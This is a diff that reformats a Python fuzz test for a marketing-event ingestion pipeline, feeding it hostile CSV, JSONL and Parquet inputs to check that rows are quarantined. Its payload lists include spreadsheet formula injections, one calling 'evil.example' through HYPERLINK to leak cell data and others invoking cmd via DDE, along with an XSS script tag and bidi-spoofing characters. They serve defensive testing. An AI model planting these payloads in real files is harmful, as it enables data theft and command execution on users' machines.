@@ -44,13 +44,58 @@ pytestmark = pytest.mark.integration
 
 DAY = SAMPLE_END
 FORMATS = ("csv", "jsonl", "parquet")
-SETTINGS = settings(max_examples=30, deadline=None, database=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large, HealthCheck.large_base_example])
+SETTINGS = settings(
+    max_examples=30,
+    deadline=None,
+    database=None,
+    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large, HealthCheck.large_base_example],
+)
 
-FORMULAS = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "=1+2", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1", "\r=1"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    "=1+2",
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1",
+    "\r=1",
+]
 UNICODE = [
-    "\x00", "a\x00b", "\u200f\u202eevil\u202c", "\u200b\u200d\ufeff", "e\u0301\u0301\u0301", "Z\u0351\u0352\u0353\u0354", "\U0001f600\U0001f469\u200d\U0001f469\u200d\U0001f467",
-    "\u2028line\u2029para", "\\ud800", "\\", "\"'`;--", "</script><script>alert(1)</script>", "caf\u00e9 \u00fc\u00f1\u00ee", "\u0000\u0001\u001f\u007f", "\uffff\ufffe",
-    "a\r\nb", "a\nb", "a\rb", " ", "", ",", "\"", "\"\"", "NULL", "null", "None", "NaN", "nan", "inf", "-inf", "Infinity", "1e309", "-0", "0x1F", "9" * 40,
+    "\x00",
+    "a\x00b",
+    "\u200f\u202eevil\u202c",
+    "\u200b\u200d\ufeff",
+    "e\u0301\u0301\u0301",
+    "Z\u0351\u0352\u0353\u0354",
+    "\U0001f600\U0001f469\u200d\U0001f469\u200d\U0001f467",
+    "\u2028line\u2029para",
+    "\\ud800",
+    "\\",
+    "\"'`;--",
+    "</script><script>alert(1)</script>",
+    "caf\u00e9 \u00fc\u00f1\u00ee",
+    "\u0000\u0001\u001f\u007f",
+    "\uffff\ufffe",
+    "a\r\nb",
+    "a\nb",
+    "a\rb",
+    " ",
+    "",
+    ",",
+    '"',
+    '""',
+    "NULL",
+    "null",
+    "None",
+    "NaN",
+    "nan",
+    "inf",
+    "-inf",
+    "Infinity",
+    "1e309",
+    "-0",
+    "0x1F",
+    "9" * 40,
 ]
 HUGE = ["x" * 150_000, "\U0001f600" * 60_000]
 SPECIAL_FLOATS = [float("nan"), float("inf"), float("-inf"), -0.0, 1e308, -1e-320]
@@ -59,10 +104,24 @@ SPECIAL_FLOATS = [float("nan"), float("inf"), float("-inf"), -0.0, 1e308, -1e-32
 def _good_value(source: str, name: str, i: int, draw) -> object:
     """A value that passes the source's checks (so examples hold valid rows too)."""
     t = f"2026-11-20T{draw(st.integers(0, 23)):02d}:{draw(st.integers(0, 59)):02d}:00Z"
-    common = {"event_id": f"{source}-{i}-{draw(st.integers(0, 10**6))}", "event_time": t, "anonymous_id": f"ck_{i}", "email": "jane.doe@northwind.io",
-              "ip": "20.0.0.7", "url": "https://www.northwind.io/pricing", "user_agent": "Mozilla/5.0 (X11; Linux x86_64)", "campaign_id": "cmp-1",
-              "referrer": "https://www.google.com/", "duration_seconds": 12.5, "form_type": None, "ad_id": "ad-1", "company_domain": "northwind.io",
-              "company_name": "Northwind", "cost": 0.25, "platform": "linkedin"}
+    common = {
+        "event_id": f"{source}-{i}-{draw(st.integers(0, 10**6))}",
+        "event_time": t,
+        "anonymous_id": f"ck_{i}",
+        "email": "jane.doe@northwind.io",
+        "ip": "20.0.0.7",
+        "url": "https://www.northwind.io/pricing",
+        "user_agent": "Mozilla/5.0 (X11; Linux x86_64)",
+        "campaign_id": "cmp-1",
+        "referrer": "https://www.google.com/",
+        "duration_seconds": 12.5,
+        "form_type": None,
+        "ad_id": "ad-1",
+        "company_domain": "northwind.io",
+        "company_name": "Northwind",
+        "cost": 0.25,
+        "platform": "linkedin",
+    }
     types = {"web": "page_view", "email": "click", "ad": "click"}
     return types[source] if name == "event_type" else common.get(name)
 
@@ -96,7 +155,11 @@ def structured_file(draw):
     for i in range(n):
         row = {}
         for name in columns:
-            row[name] = draw(hostile_value(allow_surrogates)) if draw(st.integers(0, 3)) == 0 else _good_value(source, name, i, draw)
+            row[name] = (
+                draw(hostile_value(allow_surrogates))
+                if draw(st.integers(0, 3)) == 0
+                else _good_value(source, name, i, draw)
+            )
         rows.append(row)
     encoding = draw(st.sampled_from(["utf-8", "utf-8-sig", "latin-1", "utf-16", "cp1252"]))
     newline = draw(st.sampled_from(["\n", "\r\n"]))
@@ -110,7 +173,11 @@ def structured_file(draw):
     elif fmt == "jsonl":
         lines = []
         for row in rows:
-            record = {k: v for k, v in row.items() if v is not None or not CONTRACTS[source].column(k).nullable or draw(st.booleans())}
+            record = {
+                k: v
+                for k, v in row.items()
+                if v is not None or not CONTRACTS[source].column(k).nullable or draw(st.booleans())
+            }
             lines.append(json.dumps(record, ensure_ascii=allow_surrogates or draw(st.booleans()), allow_nan=True))
         content = _encode(newline.join(lines) + draw(st.sampled_from(["", newline])), encoding)
     else:
@@ -119,7 +186,14 @@ def structured_file(draw):
 
 
 def _encode(text: str, encoding: str) -> bytes:
-    return text.encode(encoding, errors="replace" if encoding in ("latin-1", "cp1252") else "surrogatepass" if encoding.startswith("utf-16") else "strict")
+    return text.encode(
+        encoding,
+        errors="replace"
+        if encoding in ("latin-1", "cp1252")
+        else "surrogatepass"
+        if encoding.startswith("utf-16")
+        else "strict",
+    )
 
 
 def _parquet(rows: list[dict], columns: list[str], draw) -> bytes:
@@ -134,7 +208,15 @@ def _parquet(rows: list[dict], columns: list[str], draw) -> bytes:
             except (pa.ArrowException, OverflowError, TypeError):
                 arrays[c] = pa.array(text, pa.string())
         elif kind == "binary":
-            arrays[c] = pa.array([None if t is None else t.encode("utf-8", "surrogatepass") + (b"\xff\xfe" if draw(st.booleans()) else b"") for t in text], pa.binary())
+            arrays[c] = pa.array(
+                [
+                    None
+                    if t is None
+                    else t.encode("utf-8", "surrogatepass") + (b"\xff\xfe" if draw(st.booleans()) else b"")
+                    for t in text
+                ],
+                pa.binary(),
+            )
         elif kind == "dictionary":
             arrays[c] = pa.array(text, pa.string()).dictionary_encode()
         else:
@@ -161,10 +243,18 @@ def random_file(draw):
         content = {"bytes": body, "header+bytes": real[:cut] + body, "lines+bytes": real[:4] + body + real[-8:]}[shape]
     elif fmt == "csv":
         header = ",".join(columns).encode() + b"\n"
-        content = {"bytes": body, "header+bytes": header + body, "lines+bytes": header + b"a,b\n" + body.replace(b"\x00", b"\n")}[shape]
+        content = {
+            "bytes": body,
+            "header+bytes": header + body,
+            "lines+bytes": header + b"a,b\n" + body.replace(b"\x00", b"\n"),
+        }[shape]
     else:
         line = json.dumps({c: f"v{i}" for i, c in enumerate(columns)}).encode() + b"\n"
-        content = {"bytes": body, "header+bytes": line + body, "lines+bytes": line + body.replace(b"\x01", b"\n") + b"\n" + line[: len(line) // 2]}[shape]
+        content = {
+            "bytes": body,
+            "header+bytes": line + body,
+            "lines+bytes": line + body.replace(b"\x01", b"\n") + b"\n" + line[: len(line) // 2],
+        }[shape]
     return source, fmt, f"random.{fmt}", content
 
 
@@ -192,7 +282,13 @@ def run_file(base: dict, source: str, name: str, content: bytes, config: str | N
         folder = landing / source / DAY.isoformat()
         folder.mkdir(parents=True)
         (folder / name).write_bytes(content)
-        settings = Settings(landing=str(landing), crm_url=f"sqlite:///{base['root'] / 'crm.sqlite'}", lake=str(work / "lake"), warehouse_url=f"sqlite:///{work / 'wh.sqlite'}", config_path=config)
+        settings = Settings(
+            landing=str(landing),
+            crm_url=f"sqlite:///{base['root'] / 'crm.sqlite'}",
+            lake=str(work / "lake"),
+            warehouse_url=f"sqlite:///{work / 'wh.sqlite'}",
+            config_path=config,
+        )
         ctx = RunContext(settings)
         outcome: dict = {"error": None}
         try:
@@ -223,7 +319,9 @@ def check_outcome(outcome: dict, source: str, name: str) -> None:
     error = outcome["error"]
     event(f"outcome: {type(error).__name__ if error else 'rows split'}")
     if error is None:
-        event(f"rows quarantined: {'none' if outcome['quarantine'].empty else 'all' if outcome['valid'].empty else 'some'}")
+        event(
+            f"rows quarantined: {'none' if outcome['quarantine'].empty else 'all' if outcome['valid'].empty else 'some'}"
+        )
     if error is not None:
         assert isinstance(error, PipelineError)
         message = str(error)
@@ -245,16 +343,46 @@ def check_outcome(outcome: dict, source: str, name: str) -> None:
 
 @SETTINGS
 @given(structured_file())
-@example(("web", "csv", "hostile.csv", "\ufeffevent_id,event_time,anonymous_id,email,ip,url,event_type,form_type,duration_seconds,user_agent,referrer\r\n"
-          "w-1,2026-11-20T10:00:00Z,ck,=HYPERLINK(\"http://x\"),20.0.0.7,https://a.io/,page_view,,NaN,\"multi\nline\",\r\n".encode("utf-16"), 1))
-@example(("email", "jsonl", "hostile.jsonl", b'{"event_id": "e\\ud800", "event_time": "2026-11-20T10:00:00Z", "email": "a@b.io", "campaign_id": {"nested": [1, 2]}, "event_type": "open"}\n', 1))
-@example(("ad", "jsonl", "hostile.jsonl", b'{"event_id": "a1", "event_time": "2026-11-20T10:00:00Z", "platform": "meta", "campaign_id": "c", "event_type": "click", "cost": NaN}\n'
-          b'{"event_id": "a2", "event_time": "2026-11-20T10:00:00Z", "platform": "meta", "campaign_id": "c", "event_type": "click", "cost": Infinity}\n', 2))
+@example(
+    (
+        "web",
+        "csv",
+        "hostile.csv",
+        "\ufeffevent_id,event_time,anonymous_id,email,ip,url,event_type,form_type,duration_seconds,user_agent,referrer\r\n"
+        'w-1,2026-11-20T10:00:00Z,ck,=HYPERLINK("http://x"),20.0.0.7,https://a.io/,page_view,,NaN,"multi\nline",\r\n'.encode(
+            "utf-16"
+        ),
+        1,
+    )
+)
+@example(
+    (
+        "email",
+        "jsonl",
+        "hostile.jsonl",
+        b'{"event_id": "e\\ud800", "event_time": "2026-11-20T10:00:00Z", "email": "a@b.io", "campaign_id": {"nested": [1, 2]}, "event_type": "open"}\n',
+        1,
+    )
+)
+@example(
+    (
+        "ad",
+        "jsonl",
+        "hostile.jsonl",
+        b'{"event_id": "a1", "event_time": "2026-11-20T10:00:00Z", "platform": "meta", "campaign_id": "c", "event_type": "click", "cost": NaN}\n'
+        b'{"event_id": "a2", "event_time": "2026-11-20T10:00:00Z", "platform": "meta", "campaign_id": "c", "event_type": "click", "cost": Infinity}\n',
+        2,
+    )
+)
 def test_structured_hostile_rows_are_all_accounted_for(base, data):
     source, fmt, name, content, n = data
     outcome = run_file(base, source, name, content, base["lenient"])
     assert outcome["error"] is None, f"{type(outcome['error']).__name__}: {outcome['error']}"
-    assert len(outcome["raw"]) == n, (len(outcome["raw"]), n, outcome["raw"][["source_line", "coercion_errors"]].to_dict("records"))
+    assert len(outcome["raw"]) == n, (
+        len(outcome["raw"]),
+        n,
+        outcome["raw"][["source_line", "coercion_errors"]].to_dict("records"),
+    )
     check_outcome(outcome, source, name)
 
 
